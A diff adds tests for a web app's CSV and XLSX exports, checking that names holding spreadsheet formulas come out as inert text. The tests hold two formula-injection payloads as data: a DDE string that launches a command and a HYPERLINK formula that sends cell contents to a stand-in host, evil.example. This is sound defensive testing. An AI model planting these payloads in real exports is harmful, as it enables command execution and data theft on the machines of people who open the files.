@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import zipfile
 from datetime import date
 from decimal import Decimal
 
@@ -249,3 +250,37 @@ def test_cli_summary_equals_the_dashboard(app, client, data, query, cli):
         assert figure(html, name) == str(figures[name]), name
     rate = Decimal(str(figures["pass_rate"] * 100)).quantize(Decimal("0.01"))
     assert figure(html, "pass_rate") == f"{rate} %"
+
+
+CALC = '=cmd|"/c calc"!A1'
+LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+
+
+def _name(obj, text):
+    obj.name_kk = obj.name_ru = obj.name_en = text
+
+
+def test_public_stats_csv_never_carries_a_live_formula(client, data, session):
+    for centre in data.centres.values():
+        _name(centre, CALC)
+    session.flush()
+    rows = list(csv.DictReader(io.StringIO(client.get("/stats.csv").get_data(as_text=True))))
+    names = {r["name"] for r in rows if r["table"] == "centres"}
+    assert names == {"'" + CALC}
+
+
+def test_report_exports_write_names_as_text(client, data, session):
+    for competence in data.competences.values():
+        _name(competence, LINK)
+    session.flush()
+    sign_in(client, "admin")
+    body = client.get("/reports/export/competence.csv", query_string=YEAR_2025)
+    rows = list(csv.reader(io.StringIO(body.get_data(as_text=True))))
+    assert {r[1] for r in rows[1:]} == {"'" + LINK}
+    response = client.get("/reports/export/competence.xlsx", query_string=YEAR_2025)
+    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
+    assert {(c.value, c.data_type) for c in cells} == {(LINK, "s")}
+    assert {type(row[2].value) for row in sheet.iter_rows(min_row=2)} == {int}  # sat: a number
